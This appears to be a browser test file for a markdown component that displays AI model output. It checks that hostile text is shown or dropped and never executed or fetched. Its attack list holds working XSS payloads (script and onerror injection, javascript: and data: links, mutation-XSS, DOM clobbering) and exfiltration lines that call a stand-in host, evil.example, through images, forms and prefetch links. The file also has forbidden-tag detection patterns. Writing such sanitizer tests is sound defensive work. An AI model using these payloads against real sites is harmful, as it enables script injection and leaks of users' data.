// What a model writes, in a real browser: rendered as markdown, and unable to run, to fetch or to leave its box.
import type { Browser } from "playwright";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { Desktop, launch, type ServedPage, servePage } from "../shell/browser.ts";

let served: ServedPage;
let browser: Browser;
let desktop: Desktop;

beforeAll(async () => {
  [served, browser] = await Promise.all([servePage(), launch()]);
  desktop = await Desktop.open(browser, served, { script: { models: [{}] } });
  await desktop.page.evaluate(() => customElements.whenDefined("ui-markdown").then(() => true));
}, 60_000);

afterEach(() => expect(desktop.complaints.splice(0)).toEqual([]));

afterAll(async () => {
  await browser.close();
  await served.close();
});

/** The markup of the rendered blocks; with `pieces`, as it is after each of them has arrived. */
function render(...pieces: string[]): Promise<string[]> {
  return desktop.page.evaluate(async (pieces) => {
    const element = document.createElement("ui-markdown") as HTMLElement & {
      text: string;
      growing: boolean;
      updateComplete: Promise<unknown>;
    };
    document.body.append(element);
    const seen: string[] = [];
    let text = "";
    for (const [index, piece] of pieces.entries()) {
      text += piece;
      Object.assign(element, { text, growing: index < pieces.length - 1 });
      await element.updateComplete;
      const blocks = [...element.shadowRoot!.querySelectorAll(".block")];
      seen.push(blocks.map((block) => block.innerHTML.trim()).join("\n"));
    }
    element.remove();
    return seen;
  }, pieces);
}

test("markdown becomes elements", async () => {
  expect(await render("**bold** and `code`")).toEqual(["<p><strong>bold</strong> and <code>code</code></p>"]);
});

describe("hostile text is shown or dropped, never followed", () => {
  const attacks = [
    "<script>globalThis.pwned = 1</script>",
    "<img src=x onerror=globalThis.pwned=1>",
    "![a](https://evil.example/?q=secret)",
    "![a][ref]\n\n[ref]: https://evil.example/x.png",
    "[click](javascript:globalThis.pwned=1)",
    "[click](data:text/html,<script>globalThis.pwned=1</script>)",
    "[click](  jAvAsCrIpT:globalThis.pwned=1)",
    '<a href="https://a.example" style="position:fixed;inset:0">all</a>',
    "<form action=https://evil.example><input name=x><button>go</button></form>",
    "<video poster=https://evil.example/p.png autoplay></video>",
    "<iframe src=https://evil.example></iframe>",
    "<svg><use href=https://evil.example/#x></use><script>globalThis.pwned=1</script></svg>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=globalThis.pwned=1>",
    '<div id="body" name="documents">clobber</div>',
    "<link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "```html\n</code></pre><script>globalThis.pwned=1</script>",
    '[x](https://a.example "onmouseover=globalThis.pwned=1 \\" onclick=globalThis.pwned=1 ")',
  ];

  test.each(attacks)("%s", async (attack) => {
    const found = await desktop.page.evaluate(async (text) => {
      const element = Object.assign(document.createElement("ui-markdown"), { text });
      document.body.append(element);
      await (element as unknown as { updateComplete: Promise<unknown> }).updateComplete;
      await new Promise((resolve) => setTimeout(resolve, 50));
      const all = [...element.shadowRoot!.querySelectorAll(".block *")];
      const result = {
        pwned: "pwned" in globalThis,
        tags: all.map(({ localName }) => localName),
        attributes: all.flatMap((one) => [...one.attributes].map(({ name }) => name)),
        links: all.flatMap((one) =>
          one instanceof HTMLAnchorElement && one.hasAttribute("href") ? [one.protocol] : [],
        ),
      };
      element.remove();
      return result;
    }, attack);
    expect(found.pwned).toBe(false);
    const forbidden = /^(script|img|image|form|video|iframe|svg|style|math|link|meta|object|embed)$/;
    expect(found.tags.filter((tag) => forbidden.test(tag))).toEqual([]);
    expect(found.attributes.filter((name) => /^(on|style$|id$|name$|src|action|poster)/.test(name))).toEqual([]);
    expect(found.links.filter((protocol) => !/^(https?|mailto):$/.test(protocol))).toEqual([]);
  });
});

test("an image is named, not loaded", async () => {
  expect(await render("![a cat](https://evil.example/cat.png)")).toEqual(["<p>[image: a cat]</p>"]);
});

test("links open apart and tell nothing of where they come from", async () => {
  const [html] = await render("[a](https://a.example)");
  expect(html).toContain('target="_blank"');
  expect(html).toContain('rel="noopener noreferrer nofollow"');
});

describe("while a text grows", () => {
  const whole =
    "# One\n\ntext\n\n- a\n- b\n\n```js\nconst x = 1;\n\nx;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. x\n\n   y\n2. z\n\nend";

  test("it ends up as it would if it had come at once", async () => {
    const [atOnce] = await render(whole);
    for (const size of [1, 3, 17]) {
      const pieces = whole.match(new RegExp(`[\\s\\S]{1,${size}}`, "g"))!;
      expect((await render(...pieces)).at(-1)).toBe(atOnce);
    }
  });

  test("finished blocks keep their elements", async () => {
    const same = await desktop.page.evaluate(async (text) => {
      const element = document.createElement("ui-markdown") as HTMLElement & { updateComplete: Promise<unknown> };
      document.body.append(element);
      const grow = async (to: number) => {
        Object.assign(element, { text: text.slice(0, to), growing: true });
        await element.updateComplete;
        return element.shadowRoot!.querySelector(".block");
      };
      const first = await grow(30);
      const kept = (await grow(60)) === first && (await grow(text.length)) === first;
      element.remove();
      return kept;
    }, whole);
    expect(same).toBe(true);
  });

  test("an open fence is code from its first line on", async () => {
    const [html] = await render("```python\nprint(1)");
    expect(html).toContain("<code");
    expect(html).toContain("print(1)");
    expect(html).toContain("python");
  });
});
